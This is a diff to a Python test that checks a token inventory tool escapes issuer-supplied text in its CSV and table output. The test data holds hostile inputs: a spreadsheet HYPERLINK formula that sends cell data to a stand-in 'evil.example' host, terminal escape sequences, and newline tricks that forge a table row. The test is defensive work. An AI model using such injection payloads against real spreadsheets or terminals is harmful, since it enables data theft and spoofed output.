@@ -461,7 +461,8 @@ def test_an_issuer_s_text_reaches_no_spreadsheet_formula_and_no_terminal_control
 
     evil = '=HYPERLINK("http://evil.example/?"&A1,"x")'
     entries = [Entry("t", "management", "tok-1", evil, "active", "unmanaged", (), "no rotator tag"),
-               Entry("t", "management", "tok-2", "ci\x1b[2J\nt  tok-9  managed", "active", "unmanaged", (), "r")]
+               Entry("t", "management", "tok-2", "ci\x1b[2J\nt  tok-9  managed", "active", "unmanaged", (), "r"),
+               Entry("t", "influxdb3", "named\x1b]0;x\x07\nt  tok-8", "", "active", "unmanaged", (), "r")]
     result = Inventory(entries, [], ["t"])
     now = datetime.now(UTC)
     _print_inventory("csv", result, now)
@@ -470,7 +471,8 @@ def test_an_issuer_s_text_reaches_no_spreadsheet_formula_and_no_terminal_control
     _print_inventory("table", result, now)
     table = capsys.readouterr().out
     assert "\x1b" not in table and "[ci\\x1b[2J\\x0at  tok-9  managed]" in table
-    assert not any(line.startswith("t  tok-9") for line in table.splitlines()), "no forged row"
+    assert not any(line.startswith(("t  tok-9", "t  tok-8")) for line in table.splitlines()), "no forged row"
+    assert "named\\x1b]0;x\\x07\\x0at  tok-8" in table, "an InfluxDB 3 token's id is its name: anyone's text"
 
 
 def test_untrusted_text_helpers():
